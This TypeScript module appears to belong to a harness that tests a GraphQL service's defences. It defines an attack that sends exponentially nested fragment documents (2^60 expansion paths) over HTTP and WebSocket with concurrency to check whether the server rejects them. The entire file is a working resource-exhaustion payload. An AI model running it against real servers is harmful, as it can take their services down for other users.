import { once } from 'node:events'
import { WebSocket } from 'ws'
import type { Attack } from '../attack.js'

const LEVELS = 60

/** A DAG of fragments: each is spread twice in the one before, 2^60 paths in 2,650 bytes. */
function fragmentDag(operation: string, type: string, field: string): string {
  const levels = Array.from(
    { length: LEVELS },
    (_, level) => `fragment a${level} on ${type}{...a${level + 1} ...a${level + 1}}`,
  )
  return `${operation}{...a0 ${field}} ${levels.join(' ')} fragment a${LEVELS} on ${type}{${field}}`
}

const DOCUMENTS = [
  fragmentDag('subscription', 'Subscription', 'poolActivity{type}'),
  fragmentDag('query', 'Query', 'pricing{currency}'),
  fragmentDag('mutation', 'Mutation', 'createAccount(input:{email:"eve@example.org"}){apiKey}'),
]

export const v1Fragments: Attack = {
  name: 'v1-fragments',
  summary: 'no key: GraphQL documents of 60 fragment levels, over HTTP and WebSocket',
  prepare({ call, url, source, note, uplink }) {
    let turn = 0

    async function overWebSocket(query: string, signal: AbortSignal): Promise<void> {
      await uplink.connection()
      const socket = new WebSocket(`${url.replace('http:', 'ws:')}/graphql`, 'graphql-transport-ws', {
        localAddress: source,
      })
      try {
        const closed = once(socket, 'close', { signal })
        await Promise.race([once(socket, 'open', { signal }), closed])
        if (socket.readyState !== WebSocket.OPEN) return note('WebSocket refused')
        socket.send(JSON.stringify({ type: 'connection_init' }))
        await Promise.race([once(socket, 'message', { signal }), closed])
        socket.send(JSON.stringify({ type: 'subscribe', id: '1', payload: { query } }))
        const [answer] = await Promise.race([once(socket, 'message', { signal }), closed])
        note(`WebSocket ${typeof answer === 'number' ? answer : JSON.parse(String(answer)).type}`)
      } finally {
        socket.on('error', () => {}).terminate()
      }
    }

    return {
      concurrency: 4,
      async strike(signal) {
        const query = DOCUMENTS[turn++ % DOCUMENTS.length]!
        if (turn % 2 === 0) await overWebSocket(query, signal)
        else await call('POST', '/graphql', { body: { query } })
      },
    }
  },
}
